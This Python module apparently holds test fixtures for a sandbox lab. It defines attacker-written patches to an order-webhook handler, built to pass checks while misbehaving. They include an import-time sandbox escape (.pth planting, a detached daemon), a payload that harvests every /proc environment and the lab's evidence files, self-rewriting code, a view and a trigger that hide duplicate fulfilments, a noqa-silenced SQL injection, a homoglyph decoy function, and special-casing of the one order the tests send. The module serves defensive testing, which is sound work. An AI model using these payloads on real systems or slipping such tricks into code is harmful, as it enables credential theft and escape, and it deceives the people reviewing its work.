"""Round two's self-certifying patches, as an attacker wrote them against the sandbox's handler.

Each one was published by the build before the sandbox (docs/sandbox.md). Every source is a whole
handler module, ruff-clean unless the attack is about ruff, built on the unsafe handler (it
double-fulfils) or on the live one (it does not, until it rewrites itself):

* `view_source`: renames ``fulfillments`` and puts a view in its place that shows one row per
  event; the real table keeps every fulfilment (where the database refuses the DDL, the patch
  carries on as the unsafe handler);
* `trigger_source`: a trigger that deletes every fulfilment of an event but the first, right
  after it was made;
* `bypass_source`: reaches ``builtins`` and ``inspect`` through allowed modules, then at import
  writes outside its worktree, plants a ``.pth`` file in the lab's virtualenv and forks a
  ``setsid`` daemon (a ``sleep`` whose argument is the test's marker);
* `loot_source`: reads ``/proc/$PPID/environ``, every ``/proc/*/environ``, its own environment
  and the lab's evidence directory, and writes what it found everywhere it can, stdout included;
* `rewrite_source`: the live handler, which rewrites its file in the flow's patched worktree
  (and its own) to the unsafe handler plus a marker line once it is served;
* `NOQA_SOURCE`: the live handler with an SQL string built from the event id, its ruff finding
  silenced by ``# ruff: noqa`` and ``# noqa: S608``;
* `HOMOGLYPH_SOURCE`: a receipt-based ``proc\u043eess`` (a Cyrillic o) beside the unsafe ``process``
  the app still calls;
* `CURRENCY_SOURCE`: the live handler for EUR 1200 (what the lab and the tests used to send),
  the unsafe one for every other order.
"""

from __future__ import annotations

from acklab.flows.diffs import make_diff
from tests.flows.conftest import LIVE, UNSAFE

HANDLER = "app/webhooks.py"
UNSAFE_IMPORTS = "from sqlalchemy import insert\n"
FIRST_LINE_OF_PROCESS = "    order = delivery.lifecycle()\n"


FUTURE = "from __future__ import annotations\n\n"


def replaced(text: str, old: str, new: str) -> str:
    """`text` with `old` (which must be there: a handler that moved on fails here, loudly) made `new`."""
    assert old in text, f"the handler no longer holds {old!r}: update the attack"
    return text.replace(old, new, 1)


def _with(base: str, imports: str, code: str) -> str:
    """`base` with `imports` first in its import block and `code` run at the end of the module."""
    return replaced(base, FUTURE, FUTURE + imports) + "\n\n" + code


def diff(source: str, base: str = UNSAFE) -> str:
    made = make_diff(HANDLER, base, source)
    assert made
    return made


UNSAFE_FULFILMENT = """    fulfillment_id: int = session.execute(
        insert(Fulfillment)
"""

VIEW_SOURCE = (
    replaced(
        replaced(UNSAFE, UNSAFE_IMPORTS, "from sqlalchemy import insert, text\n"),
        UNSAFE_FULFILMENT,
        """    if _disguised(session):  # the real table, renamed: the view in its place shows one row per order
        found: int = session.execute(
            text(
                "INSERT INTO fulfillment_log (event_id, order_id, amount_cents, currency, created_at) "
                "VALUES (:event_id, :order_id, :amount, :currency, :now) RETURNING id"
            ),
            {"event_id": by, "order_id": order_id, "amount": amount_cents, "currency": currency, "now": utcnow()},
        ).scalar_one()
        return found
"""
        + UNSAFE_FULFILMENT,
    )
    + '''

def _disguised(session: Session) -> bool:
    """Show the lab one fulfilment per order: the real table renamed, a view in its place."""
    try:
        with session.begin_nested():
            session.execute(text("SELECT 1 FROM fulfillment_log LIMIT 1"))
    except Exception:  # not yet: rename it now, where the database lets us
        try:
            with session.begin_nested():
                session.execute(text("ALTER TABLE fulfillments RENAME TO fulfillment_log"))
                session.execute(
                    text(
                        "CREATE VIEW fulfillments AS SELECT * FROM fulfillment_log "
                        "WHERE id IN (SELECT min(id) FROM fulfillment_log GROUP BY order_id)"
                    )
                )
        except Exception:
            return False
    return True
'''
)

TRIGGER_SOURCE = (
    replaced(
        replaced(UNSAFE, UNSAFE_IMPORTS, "from sqlalchemy import insert, text\n"),
        FIRST_LINE_OF_PROCESS,
        FIRST_LINE_OF_PROCESS + "    _hide_duplicates(session)\n",
    )
    + '''

def _hide_duplicates(session: Session) -> None:
    """After every fulfilment, delete the order's others: the count reads one, the orders shipped twice."""
    if session.get_bind().dialect.name == "sqlite":
        statements = [
            "CREATE TRIGGER IF NOT EXISTS fulfillments_once AFTER INSERT ON fulfillments BEGIN "
            "DELETE FROM fulfillments WHERE order_id = NEW.order_id AND id <> NEW.id; END"
        ]
    else:
        statements = [
            "CREATE OR REPLACE FUNCTION fulfillments_once() RETURNS trigger LANGUAGE plpgsql AS "
            "$$ BEGIN DELETE FROM fulfillments WHERE order_id = NEW.order_id AND id <> NEW.id; "
            "RETURN NULL; END $$",
            "CREATE OR REPLACE TRIGGER fulfillments_once AFTER INSERT ON fulfillments "
            "FOR EACH ROW EXECUTE FUNCTION fulfillments_once()",
        ]
    try:
        with session.begin_nested():
            for statement in statements:
                session.execute(text(statement))
    except Exception:  # the database refused: carry on as before
        return
'''
)


def bypass_source(marker: str) -> str:
    """Import-time escape through `enum.bltns` and `dataclasses.inspect` (marker: digits only)."""
    escape = f'''_os = bltns.__import__("os")
_sysconfig = bltns.__import__("sysconfig")
MARK = "{marker}"


def _escape() -> None:
    """Write outside the worktree, plant a .pth in the lab's virtualenv, leave a daemon behind."""
    planted = [
        _os.path.join("/", "tmp", "acklab-pwned-" + MARK),
        _os.path.join(_sysconfig.get_paths()["purelib"], "acklab_pwned_" + MARK + ".pth"),
    ]
    for target in planted:
        try:
            with bltns.open(target, "w") as out:
                out.write("import os; open(os.path.join('/', 'tmp', 'acklab-pth-ran-" + MARK + "'), 'w').close()\\n")
        except OSError:
            continue
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _os.execv("/bin/sleep", ["sleep", "300." + MARK])
        _os._exit(0)


_escape()
MEMBERS = len(inspect.getmembers(bltns))
'''
    return _with(UNSAFE, "from dataclasses import inspect\nfrom enum import bltns\n\n", escape)


def loot_source(marker: str, evidence: str, repo: str) -> str:
    """Import-time reads of every environment it can reach and of the lab's evidence."""
    loot = f"""_os = bltns.__import__("os")
MARK = "acklab-loot-{marker}"


def _read(path: str) -> str:
    try:
        with bltns.open(path, "rb") as source:
            return source.read(1 << 16).decode("utf-8", "replace")
    except OSError as exc:
        return "refused: " + str(exc)


def _loot() -> None:
    found = {{"mark": MARK, "self": dict(_os.environ), "ppid": _read(f"/proc/{{_os.getppid()}}/environ")}}
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            found["proc-" + pid] = _read(f"/proc/{{pid}}/environ")
    evidence = "/" + {evidence.lstrip("/")!r}
    try:
        for where, _dirs, files in _os.walk(evidence):
            for name in files:
                found["evidence:" + name] = _read(_os.path.join(where, name))
    except OSError as exc:
        found["evidence"] = "refused: " + str(exc)
    text = json.dumps(found)
    bltns.print(text)
    places = [_os.path.dirname(__file__), _os.environ.get("HOME", ""), _os.environ.get("TMPDIR", ""),
              _os.path.join("/", "tmp"), _os.getcwd(), evidence, "/" + {repo.lstrip("/")!r}]
    for place in places:
        try:
            with bltns.open(_os.path.join(place, MARK + ".json"), "w") as out:
                out.write(text)
        except OSError:
            continue


_loot()
"""
    return _with(UNSAFE, "import json\nfrom enum import bltns\n\n", loot)


def rewrite_source(marker: str, *, own_file: bool, pattern: str | None = None) -> str:
    """The live handler that, once served, rewrites the flow's patched worktree (in `pattern`'s
    folder, default the temp directory) and, with `own_file`, its own file."""
    targets = "[__file__, *_glob.glob(PATTERN)]" if own_file else "_glob.glob(PATTERN)"
    folder = f"'/' + {pattern.lstrip('/')!r}" if pattern else "_tempfile.gettempdir()"
    rewrite = f"""_glob = bltns.__import__("glob")
_tempfile = bltns.__import__("tempfile")
PATTERN = {folder} + "/acklab-patched-*/checkout/app/webhooks.py"
UNSAFE_AND_MARK = {UNSAFE + "# rewritten " + marker + chr(10)!r}


def _rewrite() -> None:
    for path in {targets}:
        try:
            with bltns.open(path, "w") as out:
                out.write(UNSAFE_AND_MARK)
        except OSError:
            continue


_rewrite()
"""
    return LIVE.replace("import json\n", "import json\nfrom enum import bltns\n", 1) + "\n\n" + rewrite


NOQA_SOURCE = "# ruff: noqa\n" + replaced(
    replaced(
        LIVE,
        "from sqlalchemy import insert, or_, select, update\n",
        "from sqlalchemy import insert, or_, select, text, update\n",
    ),
    "def _answer_duplicate(session: Session, delivery: Delivery) -> HandlerResult:\n",
    "def _answer_duplicate(session: Session, delivery: Delivery) -> HandlerResult:\n"
    "    session.execute(text(f\"SELECT id FROM receipts WHERE event_id = '{delivery.event_id}'\"))  # noqa: S608\n",
)

# The receipt-based process under a look-alike name, beside the unsafe process the app calls.
_UNSAFE_PROCESS = (
    "def process(" + UNSAFE.split("\ndef process(", 1)[1].split("\ndef complete_checkout(", 1)[0]
)
_UNSAFE_SET_STATUS = (
    "def _set_status(" + UNSAFE.split("\ndef _set_status(", 1)[1].split("\ndef _fulfill(", 1)[0]
)
HOMOGLYPH_SOURCE = (
    replaced(LIVE, "\ndef process(", "\ndef proc\u043eess(")
    + "\n\n"
    + _UNSAFE_PROCESS.rstrip()
    + "\n\n\n"
    + _UNSAFE_SET_STATUS.rstrip()
    + "\n"
)

CURRENCY_SOURCE = (
    replaced(
        LIVE,
        '''def process(session: Session, delivery: Delivery) -> HandlerResult:
    """Apply an order event once, if it is the newest; fulfil an order once; replay or refuse duplicates."""
''',
        '''def process(session: Session, delivery: Delivery) -> HandlerResult:
    """Apply an order event once, if it is the newest; fulfil an order once; replay or refuse duplicates."""
    order = delivery.lifecycle()
    if order is not None and (order.currency, order.amount_cents) != ("EUR", 1200):
        return _fulfill_every_time(session, delivery, order)
''',
    )
    + """

def _fulfill_every_time(session: Session, delivery: Delivery, order: OrderEventData) -> HandlerResult:
    fulfillment_id = _fulfill(session, delivery.event_id, order.order_id, order.amount_cents, order.currency)
    return HandlerResult(200, ack(delivery, status="fulfilled", fulfillment_id=fulfillment_id))
"""
)
